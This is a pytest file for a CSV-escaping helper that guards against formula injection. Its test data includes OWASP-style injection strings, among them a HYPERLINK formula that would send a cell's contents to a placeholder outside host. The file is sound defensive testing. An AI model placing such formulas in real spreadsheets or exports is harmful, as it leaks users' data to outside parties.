"""Spreadsheet-safe CSV cells (OWASP's CSV injection list), and the way back for our own reads."""

from __future__ import annotations

import pytest

from judgeaudit import csvsafe


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+1", "-2+3", "@SUM(1+1)refund", "\t=1", "\r=1"],
)
def test_a_cell_a_spreadsheet_would_run_is_quoted_and_read_back(text: str) -> None:
    written = csvsafe.cell(text)
    assert written == "'" + text
    assert csvsafe.read_cell(written) == text


@pytest.mark.parametrize("value", ["ace", "retail-001", "", "'=theirs already", -0.5, 3, None])
def test_other_cells_and_numbers_are_untouched(value: object) -> None:
    assert csvsafe.cell(value) == value


def test_a_reviewers_own_leading_quote_is_kept() -> None:
    assert csvsafe.read_cell("'tis fine") == "'tis fine"
